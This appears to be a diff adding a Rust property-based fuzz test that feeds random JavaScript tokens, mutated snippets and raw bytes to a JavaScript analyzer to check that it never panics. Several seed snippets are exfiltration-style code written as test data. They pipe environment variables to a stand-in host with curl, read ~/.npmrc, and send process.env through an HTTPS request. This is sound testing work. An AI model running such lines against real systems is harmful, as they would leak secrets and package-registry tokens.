@@ -1,0 +1,118 @@
+//! Random token soups and mutated snippets: nothing panics, everything ends.
+
+use proptest::prelude::*;
+
+use crate::fuzz;
+
+const TOKENS: [&str; 72] = [
+    "a",
+    "b",
+    "f",
+    "x",
+    "process",
+    ".env",
+    "process.env",
+    "fetch",
+    "require",
+    "'https'",
+    "(",
+    ")",
+    "{",
+    "}",
+    "[",
+    "]",
+    "=>",
+    "=",
+    "+",
+    "+=",
+    "?",
+    ":",
+    ";",
+    ",",
+    ".",
+    "...",
+    "function",
+    "class",
+    "extends",
+    "new",
+    "this",
+    "super",
+    "return",
+    "yield",
+    "await",
+    "async",
+    "for",
+    "in",
+    "of",
+    "if",
+    "else",
+    "let",
+    "const",
+    "var",
+    "import",
+    "export",
+    "default",
+    "from",
+    "'./module'",
+    "`",
+    "${",
+    "`a${b}`",
+    "/x/",
+    "/",
+    "*",
+    "\n",
+    "//",
+    "/*",
+    "*/",
+    "1",
+    "'.npmrc'",
+    "typeof",
+    "delete",
+    "void",
+    "null",
+    "static",
+    "get",
+    "set",
+    "#x",
+    "@",
+    "<a>",
+    "\\",
+];
+
+const SNIPPETS: [&str; 6] = [
+    "class A extends B { constructor(x) { super(x); this.#y = process.env; } get z() { return fetch(this.#y); } }",
+    "const { a, ...b } = process.env; for (const [k, v] of Object.entries(b)) require('https').get(k + v);",
+    "export * as x from './module'; export default async function* f(...a) { yield* a.map(f.bind(null, ...arguments)); }",
+    "env | curl -d @- https://collector.invalid && node -e \"require('./index')\" || $(cat ~/.npmrc)",
+    "var t = String.fromCharCode(...[1, 2, 3]).split('').reverse().join(''); global[t] = module[t](`${t}`);",
+    "[a, b = c, ...d] = ({ e: [f], ...g } = h); label: while (1) { try { break label } catch ({ i }) { } finally { } }",
+];
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 192, ..ProptestConfig::default() })]
+
+    #[test]
+    fn soups_of_tokens(tokens in prop::collection::vec(0..TOKENS.len(), 0..60)) {
+        let text: Vec<&str> = tokens.iter().map(|&index| TOKENS[index]).collect();
+        fuzz::javascript(text.join(" ").as_bytes());
+    }
+
+    #[test]
+    fn mutated_snippets(
+        pick in 0..SNIPPETS.len(),
+        cuts in prop::collection::vec((0..200_usize, 0..20_usize, 0..TOKENS.len()), 0..6),
+    ) {
+        let mut text = SNIPPETS[pick].as_bytes().to_vec();
+        for (at, length, token) in cuts {
+            let at = at.min(text.len());
+            let end = (at + length).min(text.len());
+            text.splice(at..end, TOKENS[token].bytes());
+        }
+        fuzz::javascript(&text);
+    }
+
+    #[test]
+    fn arbitrary_bytes(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
+        fuzz::javascript(&bytes);
+    }
+}
